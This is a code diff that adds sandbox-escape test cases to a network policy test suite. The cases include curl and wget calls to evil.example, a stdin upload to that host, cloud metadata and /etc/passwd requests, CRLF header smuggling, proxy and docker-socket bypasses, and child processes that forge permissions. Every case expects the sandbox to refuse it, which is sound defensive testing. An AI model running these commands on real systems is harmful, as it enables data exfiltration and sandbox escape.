@@ -119,6 +119,158 @@ except OSError as error:
   },
 ];
 
+const only = { ...policy, network_only: [`https://${HOST}/v1/public/*`] };
+const asking = { network: { ...policy.network, ask: true } };
+
+/** Requests that a restriction excludes, or about which nobody can be asked. */
+const OTHER_POLICIES: readonly (readonly [name: string, policy: object, url: string])[] = [
+  ['network-only-other-path', only, `https://${HOST}/v1/private`],
+  ['network-only-dot-segments', only, `https://${HOST}/v1/public/../private`],
+  ['network-only-encoded-slash', only, `https://${HOST}/v1/public/..%2fprivate`],
+  ['network-only-other-host', only, 'https://evil.example/v1/public/x'],
+  ['network-only-denied-path', only, `https://${HOST}/v1/admin/x`],
+  [
+    'network-only-does-not-permit',
+    { ...policy, network_only: ['https://evil.example/*'] },
+    'https://evil.example/x',
+  ],
+  ['ask-without-a-person', asking, 'https://evil.example/x'],
+  ['ask-about-a-denied-path', asking, `https://${HOST}/v1/admin/x`],
+  ['ask-about-loopback', asking, 'http://127.0.0.1/'],
+  ['ask-about-metadata', asking, 'http://169.254.169.254/latest/meta-data/'],
+  ['ask-about-a-file', asking, 'file:///etc/passwd'],
+];
+
+/** A program that runs a command line and prints whether it has failed without output. */
+const starting = (argv: readonly string[]) => `import subprocess
+ran = subprocess.run(${JSON.stringify(argv)}, capture_output=True, text=True, input='')
+print(ran.returncode != 0, repr(ran.stdout))`;
+
+const REFUSED_ONLY = { network: [{ outcome: 'refused', bytes_up: 0 }] };
+
+/** Child processes that are to get more than the call has. */
+const CHILDREN: readonly ProgramAttack[] = [
+  {
+    name: 'child-requests-another-host',
+    code: starting([
+      'python3',
+      '-c',
+      "import urllib.request\nurllib.request.urlopen('https://evil.example/')",
+    ]),
+    policy,
+    expect: { stdout: "True ''\n", metadata: REFUSED_ONLY },
+  },
+  {
+    name: 'child-of-a-child-requests-another-host',
+    code: starting([
+      'python3',
+      '-c',
+      "import subprocess, sys\nsys.exit(subprocess.run(['node', '-e', \"fetch('http://127.0.0.1/')\"]).returncode)",
+    ]),
+    policy,
+    expect: { stdout: "True ''\n", metadata: REFUSED_ONLY },
+  },
+  {
+    name: 'child-claims-a-permission',
+    code: starting([
+      'python3',
+      '-c',
+      "import _sandbox_network as network, urllib.request\nnetwork.State.is_allowed = True\nurllib.request.urlopen('http://127.0.0.1/')",
+    ]),
+    expect: { stdout: "True ''\n", metadata: { network: undefined } },
+  },
+  {
+    name: 'child-outside-of-network-only',
+    code: starting(['node', '-e', `fetch('https://${HOST}/v1/private')`]),
+    policy: only,
+    expect: { stdout: "True ''\n", metadata: REFUSED_ONLY },
+  },
+  {
+    name: 'child-that-nobody-can-be-asked-about',
+    code: starting(['node', '-e', "fetch('https://evil.example/')"]),
+    policy: asking,
+    expect: { stdout: "True ''\n", metadata: REFUSED_ONLY },
+  },
+  {
+    name: 'child-with-numbers-of-other-calls',
+    code: starting([
+      'python3',
+      '-c',
+      `from _sandbox_tool_calls import exchange
+for number in '-1', '0', '1e999', '9007199254740993', 'x':
+    for name in 'network:request', 'network:read', 'tool':
+        try:
+            exchange(f'call\\n{number}\\n"{name}"\\n1')
+            print('accepted')
+        except OSError:
+            pass
+raise SystemExit(1)`,
+    ]),
+    policy,
+    expect: { stdout: "True ''\n" },
+  },
+  {
+    name: 'child-reads-responses-of-others',
+    code: starting([
+      'python3',
+      '-c',
+      `import _sandbox_network as network
+for handle in 0, 1, 2, 10**9:
+    try:
+        print(network.exchange('network:read', str(handle)))
+    except OSError:
+        pass
+raise SystemExit(1)`,
+    ]),
+    policy,
+    expect: { stdout: "True ''\n" },
+  },
+];
+
+/** Command lines of curl and wget whose requests the host refuses. */
+const REFUSED_COMMANDS: readonly (readonly string[])[] = [
+  ['other-host', 'curl', '-s', 'https://evil.example/'],
+  ['loopback-short', 'curl', '-s', 'http://127.1/'],
+  ['metadata', 'curl', '-s', '-H', 'X-aws-ec2-metadata-token: a', 'http://169.254.169.254/latest/'],
+  ['credentials-in-url', 'curl', '-s', `https://${HOST}@evil.example/v1/x`],
+  [
+    'method-with-line-break',
+    'curl',
+    '-s',
+    '-X',
+    'GET / HTTP/1.1\r\nHost: evil.example',
+    `https://${HOST}/v1/x`,
+  ],
+  ['header-with-line-break', 'curl', '-s', '-H', 'X: a\r\nHost: evil.example', `https://${HOST}/v1/x`],
+  ['upload-elsewhere', 'curl', '-s', '-T', '-', 'https://evil.example/'],
+  ['wget-other-host', 'wget', '-qO-', 'https://evil.example/'],
+];
+
+/** Command lines that the commands themselves refuse. */
+const INVALID_COMMANDS: readonly (readonly string[])[] = [
+  ['file', 'curl', '-s', 'file:///etc/passwd'],
+  ['gopher', 'curl', '-s', `gopher://${HOST}/1`],
+  ['insecure', 'curl', '-sk', `https://${HOST}/v1/x`],
+  ['proxy', 'curl', '-s', '-x', 'http://127.0.0.1:3128', `https://${HOST}/v1/x`],
+  ['socks', 'curl', '-s', '--socks5', '127.0.0.1:1080', `https://${HOST}/v1/x`],
+  ['resolve', 'curl', '-s', '--resolve', `${HOST}:443:127.0.0.1`, `https://${HOST}/v1/x`],
+  ['connect-to', 'curl', '-s', '--connect-to', '::127.0.0.1:80', `https://${HOST}/v1/x`],
+  ['unix-socket', 'curl', '-s', '--unix-socket', '/var/run/docker.sock', 'http://localhost/'],
+  ['interface', 'curl', '-s', '--interface', 'lo', `https://${HOST}/v1/x`],
+  ['client-certificate', 'curl', '-s', '--cert', '/etc/ssl/key.pem', `https://${HOST}/v1/x`],
+  ['dot-segments', 'curl', '-s', '--path-as-is', `https://${HOST}/v1/../admin`],
+  ['wget-without-certificate', 'wget', '-qO-', '--no-check-certificate', `https://${HOST}/v1/x`],
+];
+
+const commandLine =
+  (metadata: object) =>
+  ([name = '', ...argv]: readonly string[]): ProgramAttack => ({
+    name: `command-${name}`,
+    code: starting(argv),
+    policy,
+    expect: { stdout: "True ''\n", metadata },
+  });
+
 const javascript = (name: string, url: string): ProgramAttack => ({
   name,
   code: `try { await fetch(${JSON.stringify(url)}); console.log('sent'); }
@@ -134,6 +286,13 @@ export const NETWORK: AttackTable = {
       python(name, `{"method": "GET", "url": "https://${HOST}/v1/x", ${fields}}`),
     ),
     ...PROGRAMS,
+    ...OTHER_POLICIES.map(([name, other, url]) => ({
+      ...python(name, `{"method": "GET", "url": ${JSON.stringify(url)}}`),
+      policy: other,
+    })),
+    ...CHILDREN,
+    ...REFUSED_COMMANDS.map(commandLine(REFUSED_ONLY)),
+    ...INVALID_COMMANDS.map(commandLine({ network: [] })),
   ],
   javascript: URLS.map(([name, url]) => javascript(name, url)),
 };
